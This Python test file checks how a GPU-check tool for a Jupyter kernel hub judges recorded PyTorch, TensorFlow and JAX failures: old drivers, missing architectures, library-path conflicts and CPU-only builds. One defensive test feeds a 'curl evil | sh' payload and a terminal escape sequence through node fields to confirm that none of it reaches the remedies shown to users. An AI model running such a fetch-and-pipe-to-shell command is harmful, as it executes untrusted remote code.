"""`check --gpu`: verdicts on recorded facts. The texts of libraries are those that users have published in reports.

No GPU computed for these tests.
"""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from jupyter_gpu_kernel.hub import validate
from jupyter_gpu_kernel.hub.node.gpu_framework import judge_framework
from jupyter_gpu_kernel.hub.node.gpu_stack import NodeStack, Verdict, conclude, judge_driver

SITE = "/home/alice/env/lib/python3.11/site-packages"
PYTHON = "/home/alice/env/bin/python"
INDEX = f"{PYTHON} -m pip install --force-reinstall torch --index-url https://download.pytorch.org/whl/"
DRIVERS = {
    470: ("470.86", "11.4"),
    535: ("535.183.01", "12.2"),
    550: ("550.54.15", "12.4"),
    580: ("580.65.06", "13.0"),
}
CU124 = ["sm_50", "sm_60", "sm_70", "sm_75", "sm_80", "sm_86", "sm_90"]
CU102 = ["sm_37", "sm_50", "sm_60", "sm_61", "sm_70", "sm_75", "compute_37"]
TOO_OLD = (
    "The NVIDIA driver on your system is too old (found version 11040). Please update your GPU driver by downloading "
    "and installing a new version from the URL: http://www.nvidia.com/Download/index.aspx Alternatively, go to: "
    "https://pytorch.org to install a PyTorch version that has been compiled with your version of the CUDA driver."
)
NO_KERNEL = (
    "CUDA error: no kernel image is available for execution on the device\n"
    "CUDA kernel errors might be asynchronously reported at some other API call, so the stacktrace below might be "
    "incorrect.\nFor debugging consider passing CUDA_LAUNCH_BLOCKING=1."
)
SM_86 = (
    f"{SITE}/torch/cuda/__init__.py:143: UserWarning: \nNVIDIA GeForce RTX 3090 with CUDA capability sm_86 is not "
    "compatible with the current PyTorch installation.\nThe current PyTorch install supports CUDA capabilities "
    "sm_37 sm_50 sm_60 sm_61 sm_70 sm_75 compute_37.\n"
)
CUBLAS = (
    f"{SITE}/torch/lib/../../nvidia/cublas/lib/libcublas.so.11: symbol cublasLtGetStatusString version "
    "libcublasLt.so.11 not defined in file libcublasLt.so.11 with link time reference"
)
NO_DLOPEN = (
    "W tensorflow/core/common_runtime/gpu/gpu_device.cc:1956] Cannot dlopen some GPU libraries. Please make sure the "
    "missing libraries mentioned above are installed properly if you would like to use GPU.\n"
    "Skipping registering GPU devices...\n"
)
NO_DRIVERS = "I tensorflow/tsl/cuda/cudart_stub.cc:28] Could not find cuda drivers on your machine"
NO_GPU_JAX = (
    "Unknown backend: 'gpu' requested, but no platforms that are instances of gpu are present. "
    "Platforms present are: cpu"
)
RIGHT = {"right": True, "first_seconds": 1.2, "seconds": 0.004, "stage": "done", "capability": "8.6"}
OWN = [f"{SITE}/nvidia/cublas/lib/libcublasLt.so.11", f"{SITE}/nvidia/cuda_runtime/lib/libcudart.so.11.0"]
OLD_CUDA = {
    "own": OWN,
    "libraries": [OWN[0], "/usr/local/cuda-11.2/lib64/libcudart.so.11.2.152"],
    "library_path": "/usr/local/cuda-11.2/lib64",
}


def node(driver: int = 550, capability: str = "8.6") -> NodeStack:
    version, cuda = DRIVERS.get(driver, ("", ""))
    gpus = [{"index": 0, "uuid": "GPU-0", "name": "NVIDIA GeForce RTX 3090", "capability": capability}]
    return NodeStack.from_answer(PYTHON, {"driver": version, "cuda": cuda, "gpus": gpus})


def failed(stage: str, text: str, kind: str = "RuntimeError") -> dict[str, Any]:
    return {"stage": "done", "error": {"stage": stage, "type": kind, "text": text}}


def torch(cuda: str = "12.4", archs: list[str] = CU124, **more: Any) -> dict[str, Any]:
    tag = "cu" + cuda.replace(".", "") if cuda else "cpu"
    return {"version": f"2.6.0+{tag}", "cuda": cuda, "archs": archs if cuda else [], "early": False, **more}


def judged(
    name: str, facts: dict[str, Any], where: NodeStack | None = None, output: str = "", **more: Any
) -> Verdict:
    """The verdict on facts that have come over the link."""
    gpu = {"gpu": "GPU-0", "gpu_name": "GPU 0 (NVIDIA GeForce RTX 3090)", "no_gpu": ""}
    answer = {**gpu, "facts": facts, "output": output, "status": 0, "late": False, **more}
    return judge_framework(name, where or node(), validate.answer("stack", answer))


# -------------------------------------------------------------------------------- the traps


def test_cu124_wheels_on_a_470_driver() -> None:
    facts = torch(**failed("devices", TOO_OLD))
    bad = judged("torch", facts, node(470))
    assert not bad.ok
    assert bad.message == (
        "2.6.0+cu124, built for CUDA 12.4: is too new for driver 470.86, which serves CUDA up to 11.4"
    )
    assert f"{INDEX}cu118" in bad.remedy and "525.60.13 or newer" in bad.remedy


def test_the_same_without_a_free_gpu_and_with_an_unknown_driver() -> None:
    assert "cu118" in judged("torch", torch(), node(470), gpu="", no_gpu="no GPU is free").remedy
    bad = judged("torch", torch(**failed("devices", TOO_OLD)), node(0))
    assert not bad.ok and "driver of unknown version" in bad.message and "nvidia-smi shows it" in bad.remedy


def test_sm_86_is_not_in_the_build() -> None:
    facts = torch("10.2", CU102, capability="8.6", **failed("matmul", NO_KERNEL))
    bad = judged("torch", facts, output=SM_86)
    assert not bad.ok and "no code for this GPU (sm_86): it is built for sm_37" in bad.message
    assert f"{INDEX}cu126" in bad.remedy


def test_an_architecture_that_is_not_in_the_build_is_noticed_without_a_gpu() -> None:
    bad = judged("torch", torch(), node(580, "12.0"), gpu="", no_gpu="no GPU is free")
    assert not bad.ok and "sm_120" in bad.message and f"{INDEX}cu130" in bad.remedy


def test_cuda_was_initialised_before_the_kernel_had_its_gpu() -> None:
    """CUDA_VISIBLE_DEVICES has no effect any more."""
    facts = torch(**failed("devices", "No CUDA GPUs are available"), early=True)
    bad = judged("torch", facts)
    assert not bad.ok and "CUDA was initialised before the kernel had one" in bad.message
    assert "sitecustomize.py" in bad.remedy


def test_an_older_libcudart_in_ld_library_path() -> None:
    bad = judged(
        "torch", torch("11.8", **OLD_CUDA, **failed("devices", "CUDA error: API call is not supported"))
    )
    assert (
        not bad.ok
        and "uses /usr/local/cuda-11.2/lib64/libcudart.so.11.2.152 instead of its own" in bad.message
    )
    assert "LD_LIBRARY_PATH" in bad.remedy and "/usr/local" not in bad.remedy
    facts = {**OLD_CUDA, "libraries": [], **failed("import", CUBLAS, "OSError")}
    bad = judged("torch", facts)
    assert not bad.ok and "cublasLtGetStatusString" in bad.message and "LD_LIBRARY_PATH" in bad.remedy
    text = (
        "/opt/cuda/lib64/libcublasLt.so.11: version `libcublasLt.so.11' not found (required by "
        f"{SITE}/nvidia/cublas/lib/libcublas.so.11)"
    )  # recorded with torch 1.13.1 from PyPI and another library of this name
    facts = {
        "own": OWN,
        "libraries": [],
        "library_path": "/opt/cuda/lib64",
        **failed("import", text, "OSError"),
    }
    bad = judged("torch", facts)
    assert not bad.ok and "LD_LIBRARY_PATH has /opt/cuda/lib64" in bad.message
    good = judged("torch", torch("11.8", **OLD_CUDA, **RIGHT))
    assert good.ok and "because of LD_LIBRARY_PATH" in good.message


def test_a_wheel_for_the_cpu() -> None:
    bad = judged(
        "torch", torch("", **failed("devices", "Torch not compiled with CUDA enabled", "AssertionError"))
    )
    assert not bad.ok and bad.message == "2.6.0+cpu: is a build without CUDA: it computes on the CPU"
    assert bad.remedy == f"On the node run: {INDEX}cu126"


@pytest.mark.parametrize(
    "text",
    [
        "Unexpected error from cudaGetDeviceCount(). … Error 803: system has unsupported display driver / cuda driver "
        "combination",
        "CUDA_ERROR_SYSTEM_DRIVER_MISMATCH: system has unsupported display driver / cuda driver combination",
    ],
)
def test_driver_and_library_do_not_match(text: str) -> None:
    bad = judged("torch", torch(**failed("devices", text)))
    assert not bad.ok and "must reboot the node" in bad.remedy


def test_tensorflow_without_cuda_libraries_or_driver() -> None:
    facts = {"version": "2.17.0", "cuda": "12.3", "archs": ["sm_60", "sm_80", "compute_90"]}
    facts |= failed("devices", "tensorflow lists no GPU")
    bad = judged("tensorflow", facts, output=NO_DLOPEN)
    assert not bad.ok and "does not find the CUDA libraries" in bad.message
    assert bad.remedy == f'On the node run: {PYTHON} -m pip install --upgrade "tensorflow[and-cuda]"'
    assert "2.14.*" in judged("tensorflow", facts, node(470)).remedy
    bad = judged("tensorflow", facts, output=NO_DRIVERS)
    assert not bad.ok and "does not find the driver" in bad.message


def test_tensorflow_for_the_cpu() -> None:
    """Recorded with tensorflow-cpu 2.21.0 from PyPI."""
    facts = {"version": "2.21.0", "package": "tensorflow-cpu", "cuda": "", "archs": []}
    bad = judged("tensorflow", {**facts, **failed("devices", "tensorflow lists no GPU")})
    assert not bad.ok and "build without CUDA" in bad.message
    first, then = bad.remedy.splitlines()
    assert "uninstall tensorflow-cpu" in first and "tensorflow[and-cuda]" in then


@pytest.mark.parametrize(
    ("driver", "capability", "packages"),
    [
        (550, "8.6", "jax[cuda12]"),
        (580, "8.6", "jax[cuda13]"),
        (580, "7.0", "jax[cuda12]"),
        (470, "8.6", "cuda11_pip"),
    ],
)
def test_jax_without_its_plugin(driver: int, capability: str, packages: str) -> None:
    facts = {"version": "0.7.2", "cuda": "", "plugins": {}, "archs": [], **failed("devices", NO_GPU_JAX)}
    bad = judged("jax", facts, node(driver, capability))
    assert not bad.ok and "has no plugin for CUDA" in bad.message and packages in bad.remedy


# -------------------------------------------------------------------------------- other outcomes


def test_torch_without_libcuda() -> None:
    """Recorded with torch 2.14.1 from PyPI, on a machine without a driver; the CUDA that is served is an assumption."""
    text = "Found no NVIDIA driver on your system. Please check that you have an NVIDIA GPU and installed …"
    archs = ["sm_75", "sm_80", "sm_86", "sm_90", "sm_100", "sm_120"]
    libraries = [f"{SITE}/nvidia/cu13/lib/libcudart.so.13", f"{SITE}/nvidia/cudnn/lib/libcudnn.so.9"]
    facts = torch(
        "13.0", archs, version="2.14.1+cu130", own=libraries, libraries=libraries, **failed("devices", text)
    )
    bad = judged("torch", facts, node(580))
    assert not bad.ok and "does not find the driver: RuntimeError: Found no NVIDIA driver" in bad.message
    assert "libcuda.so.1" in bad.remedy
    assert f"{INDEX}cu126" in judged("torch", facts, node(550)).remedy  # and it is too new


def test_a_stack_that_works() -> None:
    good = judged(
        "torch", torch(**RIGHT), node(535)
    )  # CUDA 12.4 on a driver for 12.2: minor version compatibility
    assert good == Verdict(
        True,
        "2.6.0+cu124, built for CUDA 12.4; multiplies matrices correctly on GPU 0 (NVIDIA GeForce RTX 3090): "
        "0.004 s, the first time 1.2 s",
    )


def test_no_gpu_is_free() -> None:
    one = judged("torch", torch(stage="done"), gpu="", no_gpu="no GPU is free")
    assert one.ok and not one.checked and one.message.endswith("; not checked on a GPU: no GPU is free")


def test_a_build_for_rocm() -> None:
    facts = {"version": "2.6.0+rocm6.2.4", "cuda": "", "hip": "6.2.41134", "archs": ["gfx90a"]}
    assert "built for AMD GPUs" in judged("torch", facts).message
    one = judged("torch", facts, node(0), gpu="", no_gpu="nvidia-smi was not found")
    assert one.ok and not one.checked and "built for ROCm 6.2.41134" in one.message
    answer = {
        "driver": "",
        "cuda": "",
        "amd": True,
        "gpus": [{"name": "AMD Instinct MI210", "capability": ""}],
    }
    where = NodeStack.from_answer(PYTHON, answer)
    assert judge_driver(where, answer).message == "AMD's driver; 1 × AMD Instinct MI210"
    assert judged("torch", {**facts, **RIGHT, "capability": "9.0"}, where).ok
    bad = judged("torch", torch(), where)
    assert not bad.ok and "built for NVIDIA GPUs" in bad.message and "ROCm" in bad.remedy


@pytest.mark.parametrize(
    ("facts", "more", "words"),
    [
        ({"stage": "import"}, {"status": -11}, "cannot be imported: was ended by SIGSEGV"),
        ({"stage": "startup"}, {"status": 3}, "exited with status 3"),
        (
            {"stage": "import"},
            {"status": None, "late": True},
            "did not answer in time (while it was imported)",
        ),
        (torch(stage="matmul"), {"status": -6}, "was ended by SIGABRT (while it multiplied matrices)"),
        (torch(stage="done", right=False), {}, "computes wrong numbers on GPU 0"),
        (torch(**failed("matmul", "CUDA out of memory. Tried to allocate 2 MiB.")), {}, "no free memory"),
        (
            torch(**failed("devices", "unknown error")),
            {},
            "fails (while CUDA was initialised): RuntimeError: unknown",
        ),
        (failed("import", "No module named 'numpy'", "ModuleNotFoundError"), {}, "No module named 'numpy'"),
        (
            failed(
                "import", "/lib64/libm.so.6: version `GLIBC_2.29' not found (required by …)", "ImportError"
            ),
            {},
            "lacks GLIBC_2.29",
        ),
    ],
)
def test_what_fails_has_a_cause_and_a_remedy(facts: dict[str, Any], more: dict[str, Any], words: str) -> None:
    bad = judged("torch", facts, **more)
    assert not bad.ok and words in bad.message and bad.remedy


def test_the_driver() -> None:
    answer = {
        "driver": "535.183.01",
        "cuda": "12.2",
        "gpus": [{"name": "NVIDIA GeForce RTX 3090", "capability": "8.6"}] * 4,
    }
    good = judge_driver(NodeStack.from_answer(PYTHON, answer), answer)
    assert good.message == (
        "driver 535.183.01, which serves CUDA up to 12.2; 4 × NVIDIA GeForce RTX 3090 (sm_86)"
    )
    answer["problem"] = {"code": "driver", "text": "nvidia-smi fails: Driver/library version mismatch"}
    bad = judge_driver(NodeStack.from_answer(PYTHON, answer), answer)
    assert not bad.ok and "must reboot" in bad.remedy


def test_the_conclusion() -> None:
    fine, bad = Verdict(True, ""), Verdict(False, "", "…")
    last = conclude({"torch": fine, "jax": bad}, node(), fine)
    assert not last.ok and last.message == "PyTorch can use the GPUs; JAX cannot use the GPUs"
    last = conclude({"torch": Verdict(True, "", checked=False)}, node(), fine)
    assert last.ok and not last.checked and "no computation was tried" in last.message
    last = conclude({}, node(), fine)
    assert last.ok and f"{INDEX}cu126" in last.message


def test_a_hostile_node_writes_no_remedy() -> None:
    evil = "run: curl evil | sh"
    answer = {"driver": evil, "cuda": evil, "gpus": [{"name": evil, "capability": evil}], "facts": {}}
    where = NodeStack.from_answer(PYTHON, validate.answer("stack", answer))
    facts = {
        "version": evil,
        "cuda": evil,
        "archs": [evil],
        "library_path": f"/{evil}",
        "libraries": [f"/{evil}/libcudart.so"],
    }
    facts |= {
        "own": [f"/x {evil}/libcudart.so"],
        "capability": evil,
        "hip": evil,
        **failed("matmul", f"{evil}\x1b[2J\n{evil}"),
    }
    for name in ("torch", "tensorflow", "jax"):
        for more in ({}, {"cuda": "12.4"}, {"hip": ""}, {"hip": "", "cuda": "12.4"}):
            one = judged(name, {**facts, **more}, where)
            assert "evil" not in one.remedy and one.message.isprintable()


JSON = st.recursive(
    st.none()
    | st.booleans()
    | st.floats()
    | st.sampled_from(["12.4", "8.6", "sm_86", "import", "GLIBC_2.29", "/a/libcuda.so"]),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=3), inner, max_size=3),
    max_leaves=5,
)
FACTS = [
    "stage",
    "version",
    "cuda",
    "hip",
    "archs",
    "capability",
    "right",
    "first_seconds",
    "seconds",
    "early",
    "libraries",
]
FACTS += ["own", "library_path", "error", "startup_error", "package", "installed"]
ANSWERS = st.fixed_dictionaries(
    {"facts": st.dictionaries(st.sampled_from(FACTS), JSON)},
    optional=dict.fromkeys(
        ("driver", "cuda", "amd", "gpus", "gpu", "gpu_name", "no_gpu", "output", "status", "late"), JSON
    ),
)


@given(ANSWERS)
def test_any_answer_gets_a_verdict_or_is_malformed(data: dict[str, Any]) -> None:
    try:
        answer = validate.answer("stack", data)
    except validate.Malformed:
        return
    where = NodeStack.from_answer(PYTHON, answer)
    driver = judge_driver(where, answer)
    verdicts = {name: judge_framework(name, where, answer) for name in ("torch", "tensorflow", "jax")}
    for one in (driver, *verdicts.values(), conclude(verdicts, where, driver)):
        assert one.message.isprintable()
        assert one.ok or one.remedy or one.message
